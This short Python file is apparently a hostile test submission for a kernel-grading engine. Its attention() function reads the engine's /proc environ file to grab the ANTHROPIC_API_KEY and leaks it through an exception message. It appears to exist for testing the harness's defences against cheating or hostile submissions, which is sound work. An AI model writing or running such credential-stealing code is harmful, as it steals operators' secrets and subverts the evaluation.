"""Hostile: reads the engine's environment (where an API key lives) and leaks it through its error text."""

import torch
import triton
import triton.language as tl


# <the honest kernel of cheats/_honest_kernel.py, its wrapper renamed _honest_attention, goes here>


def attention(q, k, v, *, causal, sm_scale):
    with torch.serialization._open_file("/proc/__ENGINE_PID__/environ", "rb") as stolen:
        environ = stolen.read().decode()
        raise ValueError("leaked: " + environ[environ.find("ANTHROPIC_API_KEY"):][:200])
